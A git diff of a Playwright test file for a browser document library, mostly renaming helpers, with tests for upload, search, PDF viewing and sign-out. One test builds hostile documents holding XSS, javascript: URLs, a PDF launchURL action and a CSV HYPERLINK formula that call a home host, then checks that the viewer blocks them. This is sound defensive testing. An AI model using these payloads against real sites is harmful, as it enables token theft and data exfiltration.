@@ -2,18 +2,18 @@ import { readFile } from 'node:fs/promises'
 import type { Page } from '@playwright/test'
 import { unzipSync } from 'fflate'
 import type { BuiltKeeper } from './built-keeper.ts'
-import { arrive, expect, signIn, test } from './fixtures.ts'
-import { expectNoBreach } from './no-breach.ts'
+import { expectNoViolations } from './expect-no-violations.ts'
+import { expect, registerAndSignIn, signIn, test } from './fixtures.ts'
 
-interface Sent {
+interface UploadFile {
   name: string
   mimeType: string
   buffer: Buffer
 }
-const text = (name: string, words: string, mimeType = 'text/plain'): Sent => ({
+const createFile = (name: string, content: string, mimeType = 'text/plain'): UploadFile => ({
   name,
   mimeType,
-  buffer: Buffer.from(words),
+  buffer: Buffer.from(content),
 })
 const card = (page: Page, name: string) => page.getByRole('article', { name, exact: true })
 const search = (page: Page) => page.getByRole('searchbox', { name: 'Search documents' })
@@ -21,20 +21,20 @@ const search = (page: Page) => page.getByRole('searchbox', { name: 'Search docum
 /** Opens Ada's empty library and waits for the shell's own requests. */
 async function openLibrary(page: Page, keeper: BuiltKeeper) {
   const last = page.waitForRequest(/\/api\/events/)
-  await arrive(page, keeper, 'ada', { path: '/library' })
+  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
   await expect(page.getByText('No documents found')).toBeVisible()
   await last
   await page.waitForTimeout(500)
 }
 
-async function upload(page: Page, ...files: Sent[]) {
+async function upload(page: Page, ...files: UploadFile[]) {
   await page.getByLabel('Choose documents').setInputFiles(files)
 }
-async function uploaded(page: Page, ...files: Sent[]) {
+async function uploadAndWait(page: Page, ...files: UploadFile[]) {
   await upload(page, ...files)
   for (const { name } of files) await expect(card(page, name)).toBeVisible()
 }
-async function view(page: Page, name: string) {
+async function openDocument(page: Page, name: string) {
   await page.getByRole('button', { name: `View ${name}` }).click()
   const dialog = page.getByRole('dialog', { name })
   await expect(dialog).toBeVisible()
@@ -42,7 +42,7 @@ async function view(page: Page, name: string) {
 }
 
 /** A real PDF of three pages with embedded fonts. */
-async function pdfOf(page: Page): Promise<Buffer> {
+async function createPdf(page: Page): Promise<Buffer> {
   const maker = await page.context().newPage()
   const next = 'style="break-before: page"'
   await maker.setContent(
@@ -53,20 +53,16 @@ async function pdfOf(page: Page): Promise<Buffer> {
   return pdf
 }
 
-test('uploads show their progress, survive a reload and make no API call', async ({
-  page,
-  keeper,
-  context,
-}) => {
+test('uploads show their progress, survive a reload and make no API call', async ({ page, keeper, context }) => {
   await openLibrary(page, keeper)
   const calls: string[] = []
   page.on('request', (request) => {
     if (new URL(request.url()).pathname.startsWith('/api/')) calls.push(`${request.method()} ${request.url()}`)
   })
   const files = [
-    text('Choir list.txt', 'Who sings what.'),
-    text('export.json', '{"moments":[1,2]}', 'application/json'),
-    text('notes.md', '# Tides', ''),
+    createFile('Choir list.txt', 'Who sings what.'),
+    createFile('export.json', '{"moments":[1,2]}', 'application/json'),
+    createFile('notes.md', '# Tides', ''),
   ]
   await upload(page, ...files)
   for (const { name } of files) {
@@ -101,21 +97,18 @@ test('uploads show their progress, survive a reload and make no API call', async
   await page.getByText('List', { exact: true }).click()
   await page.reload()
   await expect(page.getByRole('radio', { name: 'List' })).toBeChecked()
-  await expectNoBreach(page, 'documents in a list')
+  await expectNoViolations(page, 'documents in a list')
   await page.setViewportSize({ width: 390, height: 844 })
   await page.getByText('Cards', { exact: true }).click()
-  await expectNoBreach(page, 'documents on a phone')
+  await expectNoViolations(page, 'documents on a phone')
 })
 
-test('invalid files are refused, and duplicates are asked about @at-length', async ({
-  page,
-  keeper,
-}) => {
-  await arrive(page, keeper, 'ada', { path: '/library' })
-  await upload(page, text('tool.exe', 'MZ', 'application/x-msdownload'))
+test('invalid files are refused, and duplicates are asked about @at-length', async ({ page, keeper }) => {
+  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
+  await upload(page, createFile('tool.exe', 'MZ', 'application/x-msdownload'))
   await expect(page.getByText('Unsupported file type. Please upload PDF, JSON, Markdown, or text files.')).toBeVisible()
   await page.getByRole('button', { name: 'Dismiss tool.exe' }).click()
-  await upload(page, text('nothing.txt', ''))
+  await upload(page, createFile('nothing.txt', ''))
   await expect(page.getByText('nothing.txt is empty. Choose a file with something in it.')).toBeVisible()
   await page.getByRole('button', { name: 'Dismiss nothing.txt' }).click()
   // Created in the page, because the test runner can't send this many bytes.
@@ -128,8 +121,8 @@ test('invalid files are refused, and duplicates are asked about @at-length', asy
   await expect(page.getByText('File size exceeds 50MB limit')).toBeVisible()
   await page.getByRole('button', { name: 'Dismiss large.txt' }).click()
 
-  await uploaded(page, text('a.txt', 'the same words'))
-  await upload(page, text('b.txt', 'the same words'))
+  await uploadAndWait(page, createFile('a.txt', 'the same words'))
+  await upload(page, createFile('b.txt', 'the same words'))
   await expect(page.getByText('The same document is already here as “a.txt”.')).toBeVisible()
   await expect(card(page, 'b.txt')).toHaveCount(0)
   await page.getByRole('button', { name: 'Keep both' }).click()
@@ -138,23 +131,20 @@ test('invalid files are refused, and duplicates are asked about @at-length', asy
   await page.evaluate(() => {
     const put = IDBObjectStore.prototype.put
     // The previous document's text may still be on its way to its store.
-    IDBObjectStore.prototype.put = function (this: IDBObjectStore, ...given: Parameters<IDBObjectStore['put']>) {
-      if (this.name !== 'blobs') return put.apply(this, given)
+    IDBObjectStore.prototype.put = function (this: IDBObjectStore, ...args: Parameters<IDBObjectStore['put']>) {
+      if (this.name !== 'blobs') return put.apply(this, args)
       IDBObjectStore.prototype.put = put
       throw new DOMException('full', 'QuotaExceededError')
     }
   })
-  await upload(page, text('c.txt', 'other words'))
+  await upload(page, createFile('c.txt', 'other words'))
   await expect(page.getByText('Upload failed. Please try again.')).toBeVisible()
   await expect(page.getByText('This browser is out of space for documents.')).toBeVisible()
   await page.getByRole('button', { name: 'Try again' }).click()
   await expect(card(page, 'c.txt')).toBeVisible()
 })
 
-test('only the first of several dropped documents is taken, with a note @at-length', async ({
-  page,
-  keeper,
-}) => {
+test('only the first of several dropped documents is taken, with a note @at-length', async ({ page, keeper }) => {
   await openLibrary(page, keeper)
   await page.evaluate(() => {
     const dataTransfer = new DataTransfer()
@@ -162,38 +152,38 @@ test('only the first of several dropped documents is taken, with a note @at-leng
       dataTransfer.items.add(new File([`in ${name}`], name, { type: 'text/plain' }))
     document.body.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }))
   })
-  const told = page.getByText('Only the first of 3 dropped documents was added. Browse to add several.')
-  await expect(told).toBeVisible()
+  const notice = page.getByText('Only the first of 3 dropped documents was added. Browse to add several.')
+  await expect(notice).toBeVisible()
   await expect(card(page, 'first.txt')).toBeVisible()
-  await uploaded(page, text('second.txt', 'again'), text('third.txt', 'and again'))
-  await expect(told).toHaveCount(0)
+  await uploadAndWait(page, createFile('second.txt', 'again'), createFile('third.txt', 'and again'))
+  await expect(notice).toHaveCount(0)
   await expect(page.getByRole('article')).toHaveCount(3)
 })
 
 test('text in PDF, HTML and RTF is found, and a PDF is read page by page', async ({ page, keeper }) => {
-  await arrive(page, keeper, 'ada', { path: '/library' })
-  const lease = { name: 'lease.pdf', mimeType: 'application/pdf', buffer: await pdfOf(page) }
-  await uploaded(
+  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
+  const lease = { name: 'lease.pdf', mimeType: 'application/pdf', buffer: await createPdf(page) }
+  await uploadAndWait(
     page,
     lease,
-    text('garden.html', '<p>Kale in the second bed</p><script>kale()</script>', 'text/html'),
-    text('letter.rtf', "{\\rtf1 Dear Ida, the caf\\'e9 is open.}", 'application/rtf'),
+    createFile('garden.html', '<p>Kale in the second bed</p><script>kale()</script>', 'text/html'),
+    createFile('letter.rtf', "{\\rtf1 Dear Ida, the caf\\'e9 is open.}", 'application/rtf'),
   )
-  for (const [words, name] of [
+  for (const [content, name] of [
     ['JETTY', 'lease.pdf'],
     ['second bed', 'garden.html'],
     ['café', 'letter.rtf'],
   ] as const) {
-    await search(page).fill(words)
+    await search(page).fill(content)
     await expect(page.getByRole('article')).toHaveCount(1)
     await expect(card(page, name)).toContainText('In the text:')
-    await expect(card(page, name).locator('mark')).toHaveText(words, { ignoreCase: true })
+    await expect(card(page, name).locator('mark')).toHaveText(content, { ignoreCase: true })
   }
   await search(page).fill('nothing has this')
   await expect(page.getByText('No documents found')).toBeVisible()
   await page.getByRole('button', { name: 'Show all' }).click()
 
-  const dialog = await view(page, 'lease.pdf')
+  const dialog = await openDocument(page, 'lease.pdf')
   await expect(dialog.getByText('The boathouse clause.')).toBeAttached()
   await expect(dialog.getByRole('region', { name: 'Page 1' })).toHaveAttribute('aria-busy', 'false')
   const isDrawn = await dialog
@@ -209,23 +199,20 @@ test('text in PDF, HTML and RTF is found, and a PDF is read page by page', async
   await expect(dialog.getByLabel('Page', { exact: true })).toHaveValue('3')
   await page.keyboard.press('+')
   await expect(dialog.getByText('125 %')).toBeVisible()
-  await expectNoBreach(page, 'a PDF')
+  await expectNoViolations(page, 'a PDF')
   await page.reload()
   await expect(page.getByRole('dialog', { name: 'lease.pdf' }).getByText('The boathouse clause.')).toBeAttached()
 })
 
-test("a document with lost bytes doesn't stop the search in others @at-length", async ({
-  page,
-  keeper,
-}) => {
-  await arrive(page, keeper, 'ada', { path: '/library' })
-  await uploaded(page, text('harbour.txt', 'The jetty is closed.'))
-  await uploaded(page, text('lost.txt', 'Nobody has this.'))
+test("a document with lost bytes doesn't stop the search in others @at-length", async ({ page, keeper }) => {
+  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
+  await uploadAndWait(page, createFile('harbour.txt', 'The jetty is closed.'))
+  await uploadAndWait(page, createFile('lost.txt', 'Nobody has this.'))
   await search(page).fill('Nobody has')
   await expect(card(page, 'lost.txt')).toContainText('In the text:')
   await page.evaluate(async () => {
-    const known = await indexedDB.databases()
-    const name = known.find((each) => each.name?.startsWith('keeper-library-'))?.name ?? ''
+    const databases = await indexedDB.databases()
+    const name = databases.find((database) => database.name?.startsWith('keeper-library-'))?.name ?? ''
     const db = await new Promise<IDBDatabase>((resolve, reject) => {
       const opening = indexedDB.open(name)
       opening.onsuccess = () => resolve(opening.result)
@@ -257,30 +244,30 @@ test('hostile documents cannot steal the token or call home', async ({ page, kee
   const html = `<style>@import "${home}/a.css"</style><link rel=stylesheet href=${home}/b.css><script>${steal}</script><meta http-equiv=refresh content="0;url=${home}"><img src="${home}/i.png" onerror="${steal}"><svg onload="${steal}"></svg><iframe src="javascript:${steal}"></iframe><a href="javascript:${steal}">press</a><form action=${home}><button>send</button></form><p>harmless words</p>`
   const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${home}"\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(${home})>>>>]>>endobj\ntrailer<</Root 1 0 R>>`
   const hostile = [
-    text('page.html', html, 'text/html'),
-    text(
+    createFile('page.html', html, 'text/html'),
+    createFile(
       'drawing.xml',
       `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal}"><script>${steal}</script></svg>`,
       'text/xml',
     ),
-    text(
+    createFile(
       'notes.md',
       `harmless words\n\n![x](${home}/m.png)\n\n[press](javascript:${steal})\n\n${html}`,
       'text/markdown',
     ),
-    text('table.csv', `a,b\n=HYPERLINK("${home}"),<img src=x onerror=${steal}>`, 'text/csv'),
-    text('data.json', JSON.stringify({ __proto__: html, html }), 'application/json'),
-    text('deed.pdf', pdf, 'application/pdf'),
+    createFile('table.csv', `a,b\n=HYPERLINK("${home}"),<img src=x onerror=${steal}>`, 'text/csv'),
+    createFile('data.json', JSON.stringify({ __proto__: html, html }), 'application/json'),
+    createFile('deed.pdf', pdf, 'application/pdf'),
   ]
-  const asked: string[] = []
+  const foreignRequests: string[] = []
   page.on('request', (request) => {
     const { protocol, origin, pathname } = new URL(request.url())
-    const isOwn = origin === new URL(keeper.url).origin && pathname.startsWith('/assets/')
-    if (!isOwn && protocol !== 'blob:' && protocol !== 'data:') asked.push(request.url())
+    const isAsset = origin === new URL(keeper.url).origin && pathname.startsWith('/assets/')
+    if (!isAsset && protocol !== 'blob:' && protocol !== 'data:') foreignRequests.push(request.url())
   })
-  await uploaded(page, ...hostile)
+  await uploadAndWait(page, ...hostile)
   for (const { name } of hostile) {
-    const dialog = await view(page, name)
+    const dialog = await openDocument(page, name)
     if (name === 'page.html') await expect(page.frameLocator('iframe').getByText('harmless words')).toBeVisible()
     else if (name === 'deed.pdf') await expect(dialog.getByRole('region', { name: 'Page 1' })).toBeVisible()
     else if (name === 'table.csv') await expect(dialog.getByRole('cell', { name: /HYPERLINK/ })).toBeVisible()
@@ -290,13 +277,13 @@ test('hostile documents cannot steal the token or call home', async ({ page, kee
     await expect(dialog).toHaveCount(0)
   }
   expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
-  expect(asked).toEqual([])
+  expect(foreignRequests).toEqual([])
 })
 
 test('a broken document says so and can be downloaded unchanged @at-length', async ({ page, keeper }) => {
-  await arrive(page, keeper, 'ada', { path: '/library' })
-  await uploaded(page, text('broken.pdf', 'no PDF at all', 'application/pdf'))
-  const dialog = await view(page, 'broken.pdf')
+  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
+  await uploadAndWait(page, createFile('broken.pdf', 'no PDF at all', 'application/pdf'))
+  const dialog = await openDocument(page, 'broken.pdf')
   await expect(dialog.getByText('Error loading document content')).toBeVisible()
   const coming = page.waitForEvent('download')
   await dialog.getByRole('button', { name: 'Download' }).click()
@@ -308,8 +295,8 @@ test('a broken document says so and can be downloaded unchanged @at-length', asy
 })
 
 test('documents are selected, exported, deleted and restored by keyboard @at-length', async ({ page, keeper }) => {
-  await arrive(page, keeper, 'ada', { path: '/library' })
-  await uploaded(page, text('a.txt', 'words of a'), text('b.txt', 'words of b'))
+  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
+  await uploadAndWait(page, createFile('a.txt', 'words of a'), createFile('b.txt', 'words of b'))
   await page.getByRole('checkbox', { name: 'Select a.txt' }).focus()
   await page.keyboard.press('Space')
   await page.getByRole('button', { name: 'Select all 2' }).focus()
@@ -334,20 +321,16 @@ test('documents are selected, exported, deleted and restored by keyboard @at-len
   await expect(page.getByRole('button', { name: 'Delete a.txt' })).toBeFocused()
 })
 
-test('documents stay with their person after signing out @at-length', async ({
-  page,
-  keeper,
-  watch,
-}) => {
+test('documents stay with their person after signing out @at-length', async ({ page, keeper, watch }) => {
   watch.expectEndOfSession()
-  await arrive(page, keeper, 'ada', { path: '/library' })
-  await uploaded(page, text('diary.txt', 'only mine'))
+  await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
+  await uploadAndWait(page, createFile('diary.txt', 'only mine'))
   await page
     .getByRole('button', { name: /sign out|log ?out/i })
     .first()
     .click()
   await expect(page).not.toHaveURL(/library/)
-  await arrive(page, keeper, 'ben', { path: '/library' })
+  await registerAndSignIn(page, keeper, 'ben', { path: '/library' })
   await expect(page.getByText('No documents found')).toBeVisible()
   await search(page).fill('only mine')
   await expect(page.getByRole('article')).toHaveCount(0)
